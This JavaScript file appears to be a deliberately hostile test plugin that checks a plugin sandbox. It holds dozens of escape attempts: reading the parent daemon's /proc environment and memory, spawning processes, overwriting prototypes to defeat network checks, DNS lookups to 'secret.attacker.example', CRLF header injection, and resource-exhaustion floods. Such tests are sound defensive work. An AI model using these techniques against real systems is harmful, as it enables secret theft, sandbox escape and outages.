// @ts-nocheck
import { createHook } from "node:async_hooks";
import childProcess from "node:child_process";
import cluster from "node:cluster";
import dgram from "node:dgram";
import dns from "node:dns";
import fs from "node:fs";
import http from "node:http";
import http2 from "node:http2";
import inspector from "node:inspector";
import Module, { createRequire, syncBuiltinESMExports } from "node:module";
import net, { BlockList } from "node:net";
import os from "node:os";
import traceEvents from "node:trace_events";
import v8 from "node:v8";
import { WASI } from "node:wasi";
import { Worker } from "node:worker_threads";
import { definePlugin } from "#plugin-api";
import config from "./config.js";

const connected = (socket) =>
  new Promise((resolve, reject) => {
    socket.once("connect", () => resolve("connected"));
    socket.once("error", reject);
  });

const connectRaw = async (host, port) => {
  const seen = [];
  createHook({
    init: (_id, type, _trigger, resource) => void (type === "TCPCONNECTWRAP" && seen.push(resource)),
  }).enable();
  const declared = net.connect(port, "127.0.0.2");
  await connected(declared);
  const handle = new declared._handle.constructor(0);
  const request = new seen[0].constructor();
  return new Promise((resolve, reject) => {
    request.oncomplete = (status) => (status === 0 ? resolve("connected") : reject(new Error(`status ${status}`)));
    const code = handle.connect(request, host, port);
    if (code) reject(new Error(`refused ${code}`));
  });
};

/** What a plugin might try, by name. Each gives what it got, or throws. */
const ACTS = {
  read: ({ path }) => fs.readFileSync(path).length,
  "read by a relative path": ({ path }) =>
    fs.readFileSync(`${process.cwd()}/../../plugins/hostile/../../${path.split("/").at(-1)}`).length,
  "read as bytes": ({ path }) => fs.readFileSync(Buffer.from(path)).length,
  "read a file URL": ({ path }) => fs.readFileSync(new URL(`file://${path}`)).length,
  "read by a promise": async ({ path }) => (await fs.promises.readFile(path)).length,
  "open a stream": ({ path }) =>
    new Promise((resolve, reject) => fs.createReadStream(path).on("data", resolve).on("error", reject)),
  list: ({ path }) => fs.readdirSync(path).join(),
  copy: ({ path, own }) => fs.copyFileSync(path, `${own}/copy`) ?? "copied",
  link: ({ path, own }) => fs.linkSync(path, `${own}/link`) ?? "linked",
  symlink: ({ path, own }) => fs.symlinkSync(path, `${own}/symlink`) ?? fs.readFileSync(`${own}/symlink`).length,
  import: ({ path }) => import(path),
  require: ({ path }) => createRequire(import.meta.url)(path),
  write: ({ path }) => fs.writeFileSync(path, "x") ?? "written",
  append: ({ path }) => fs.appendFileSync(path, "x") ?? "written",
  remove: ({ path }) => fs.rmSync(path) ?? "removed",
  rename: ({ path, own }) => fs.renameSync(path, `${own}/renamed`) ?? "renamed",
  chmod: ({ path }) => fs.chmodSync(path, 0o777) ?? "changed",
  "open with sqlite": async ({ path }) => {
    const { DatabaseSync } = await import("node:sqlite");
    return new DatabaseSync(path).prepare("select count(*) from sqlite_master").get();
  },
  "load sqlite inside": ({ path }) => {
    const { DatabaseSync } = process.getBuiltinModule("node:sqlite") ?? Module._load("node:sqlite");
    return new DatabaseSync(path) && "opened";
  },
  "engine flags that write files": ({ path }) => v8.setFlagsFromString(`--trace-turbo-cfg-file=${path}`) ?? "set",
  "a heap snapshot": ({ path }) => v8.writeHeapSnapshot(`${path}.heapsnapshot`),
  "change the current folder": () => process.chdir("/") ?? "changed",
  "write traces": () => traceEvents.createTracing({ categories: ["node"] }).enable() ?? "enabled",
  "write snapshots of the heap": () => v8.setHeapSnapshotNearHeapLimit(1) ?? "set",
  "a report": ({ path }) => process.report.writeReport(path),
  environment: () =>
    Object.keys(process.env)
      .filter((name) => !["TZ", "NODE_EXTRA_CA_CERTS"].includes(name))
      .join(),
  "the environment of the daemon": () => fs.readFileSync(`/proc/${process.ppid}/environ`).length,
  "the memory of the daemon": () => fs.openSync(`/proc/${process.ppid}/mem`, "r"),
  "the files of the daemon": () => fs.readdirSync(`/proc/${process.ppid}/fd`).join(),
  spawn: () => String(childProcess.spawnSync("id").stdout ?? childProcess.execSync("id")),
  exec: () => String(childProcess.execFileSync("/usr/bin/id")),
  fork: () => new Promise((resolve, reject) => childProcess.fork("x.js").on("error", reject).on("exit", resolve)),
  "fork a cluster": () => cluster.fork() && "forked",
  execve: () => process.execve("/usr/bin/id", ["id"], {}),
  worker: () => new Worker("1", { eval: true }) && "started",
  addon: () => process.dlopen({ exports: {} }, "/lib/x86_64-linux-gnu/libc.so.6"),
  "require an addon": () => createRequire(import.meta.url)("./addon.node"),
  binding: () => process.binding("fs") && "got it",
  "linked binding": () => process._linkedBinding("fs") && "got it",
  wasi: () => new WASI({ version: "preview1", preopens: { "/": "/" } }) && "got it",
  inspector: () => inspector.open(0) ?? "opened",
  "inspector session": () => new inspector.Session().connect() ?? "connected",
  "kill the daemon": () => process.kill(process.ppid, "SIGKILL"),
  "kill the daemon, raw": () => process._kill(process.ppid, 9) === 0 && "killed",
  "signal the debugger of the daemon": () => process.kill(process.ppid, "SIGUSR1"),
  "debug the daemon": () => process._debugProcess(process.ppid) ?? "debugged",
  "slow the daemon down": () => os.setPriority(process.ppid, 19) ?? "slowed",
  "kill by a child's handle": () => {
    const child = new childProcess.ChildProcess();
    child.pid = process.ppid;
    return child._handle.kill(0) === 0 && "killed";
  },
  connect: ({ host, port }) => connected(net.connect(port, host)),
  "connect by another class": ({ host, port }) => connected(new net.Stream().connect({ host, port })),
  "connect with a look-up of its own": ({ host, port }) =>
    connected(
      net.connect({
        host: "a.declared.example",
        port,
        lookup: (_name, _options, done) => done(null, [{ address: host, family: net.isIP(host) }], net.isIP(host)),
      }),
    ),
  "connect after replacing what checks": ({ host, port }) => {
    for (const replace of [
      () => {
        Set.prototype.has = () => true;
      },
      () => {
        Array.prototype.some = () => true;
      },
      () => {
        RegExp.prototype.exec = () => null;
      },
      () => {
        BlockList.prototype.check = () => true;
      },
      () => {
        net.isIP = () => 0;
        syncBuiltinESMExports();
      },
      () => {
        String.prototype.toLowerCase = () => "a.declared.example";
      },
      () => {
        for (const symbol of Object.getOwnPropertySymbols(new BlockList()))
          Object.getPrototypeOf(new BlockList()[symbol]).check = () => true;
      },
      () => {
        net.Socket.prototype.connect = net.Stream.prototype.connect;
      },
      () => {
        Object.defineProperty(dns, "lookup", { value: (_name, _options, done) => done(null, host, 4) });
      },
    ])
      try {
        replace();
      } catch {}
    return connected(net.connect(port, host));
  },
  "connect by a raw handle": ({ host, port }) => connectRaw(host, port),
  fetch: async ({ host, port }) => (await fetch(`http://${host}:${port}/`)).status,
  "fetch of the interface": async ({ host, port, ctx }) => (await ctx.fetch(`http://${host}:${port}/`)).status,
  "http request": ({ host, port }) =>
    new Promise((resolve, reject) =>
      http.get({ host, port }, ({ statusCode }) => resolve(statusCode)).on("error", reject),
    ),
  http2: ({ host, port }) => connected(http2.connect(`http://${host}:${port}`)),
  WebSocket: ({ host, port }) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`ws://${host}:${port}`);
      socket.onopen = () => resolve("connected");
      socket.onerror = () => reject(new Error("no connection"));
    }),
  "unix socket": ({ path }) => connected(net.connect(path)),
  "listen at a unix socket": ({ own }) =>
    new Promise((resolve, reject) =>
      net
        .createServer()
        .on("error", reject)
        .listen(`${own}/socket`, () => resolve("listening")),
    ),
  listen: () =>
    new Promise((resolve, reject) =>
      net
        .createServer()
        .on("error", reject)
        .listen(45_871, "0.0.0.0", () => resolve("listening")),
    ),
  datagram: ({ host, port }) =>
    new Promise((resolve, reject) =>
      dgram.createSocket("udp4").send("x", port, host, (error) => (error ? reject(error) : resolve("sent"))),
    ),
  "connected datagram": ({ host, port }) =>
    new Promise((resolve, reject) => {
      const socket = dgram.createSocket("udp4");
      socket.on("error", reject).connect(port, host, (error) => (error ? reject(error) : resolve("connected")));
    }),
  "look up a name": () =>
    new Promise((resolve, reject) =>
      dns.lookup("secret.attacker.example", (error, found) => (error ? reject(error) : resolve(found))),
    ),
  "look up a name by a promise": () => dns.promises.lookup("secret.attacker.example"),
  "ask a name server": ({ port }) => {
    const resolver = new dns.Resolver();
    resolver.setServers([`127.0.0.1:${port}`]);
    return new Promise((resolve, reject) =>
      resolver.resolve4("secret.attacker.example", (error, found) => (error ? reject(error) : resolve(found))),
    );
  },
  "ask the name server": () => dns.promises.resolveTxt("secret.attacker.example"),

  // What ends it.
  flood: () => {
    for (;;)
      try {
        sendRaw({ kind: "pong" });
      } catch {}
  },
  "spin and talk": ({ ctx }) => {
    for (;;) ctx.log.info({}, "alive");
  },
  "flood with output": () => {
    for (;;) console.log("flood");
  },
  "flood with large messages": async ({ ctx }) => {
    for (;;) {
      ctx.log.info({ text: "x".repeat(8_000_000) }, "flood");
      await new Promise((resolve) => setTimeout(resolve, 1));
    }
  },
  "write what is no message": () => fs.writeSync(3, Buffer.alloc(4_096, 0xfe)),
  "announce a message of 4 GB": () => fs.writeSync(3, Buffer.from([255, 255, 255, 255])),
  "write a short message that is none": () => fs.writeSync(3, Buffer.from([3, 0, 0, 0, 1, 2, 3])),
  "send a log line of no level": () => sendRaw({ kind: "log", level: "constructor", values: {}, message: "x" }),
  "send outcomes that are none": () => sendRaw({ kind: "outcomes", notes: [null] }),
  "send a report that is none": () => sendRaw({ kind: "report-offered", report: { key: 1 } }),
  "send no message": () => sendRaw(null),
  "send an unknown kind": () => sendRaw({ kind: "__proto__" }),
  "send a cycle": () => {
    const cycle = {};
    cycle.cycle = cycle;
    return sendRaw({ kind: "log", level: "info", values: cycle, message: "x" });
  },
  "answer with a status that is none": () => sendRaw({ kind: "response", id: 1, response: { status: 99_999 } }),
  "answer with a header that is two": () =>
    sendRaw({ kind: "response", id: 1, response: { status: 200, headers: { x: "a\r\nSet-Cookie: b" } } }),
  "fill the heap": () => {
    const kept = [];
    for (;;) kept.push(new Array(1_000_000).fill(kept.length));
  },
  "fill buffers": async () => {
    const kept = [];
    for (;;) {
      kept.push(Buffer.alloc(16_777_216, 1));
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
  },
  spin: () => {
    for (;;);
  },
  exit: () => process.exit(3),
  "kill itself": () => process.abort(),
  pid: () => process.pid,
};

function sendRaw(message) {
  const body = v8.serialize(message);
  const head = Buffer.alloc(4);
  head.writeUInt32LE(body.length);
  fs.writeSync(3, Buffer.concat([head, body]));
  return "sent";
}

export default definePlugin({
  config,
  async activate(ctx) {
    await ctx.listen("hello", () => ({ status: 200, body: "hello" }));
    process.on("uncaughtException", () => {});
    ctx.route("try", async (request) => {
      const { act, ...given } = JSON.parse(new TextDecoder().decode(request.body));
      try {
        const got = await ACTS[act]({ ...given, own: ctx.dataFolder, ctx });
        return { status: 200, body: String(got) };
      } catch (error) {
        return {
          status: 403,
          body: `${error.code ?? error.name}: ${error.cause?.code ?? ""} ${error.message}`.slice(0, 300),
        };
      }
    });
    ctx.stop(() => {
      for (;;);
    });
    ctx.deliver((batch) => {
      for (const { deliveryId } of batch) ctx.outcome(deliveryId, "accepted");
    });
  },
});
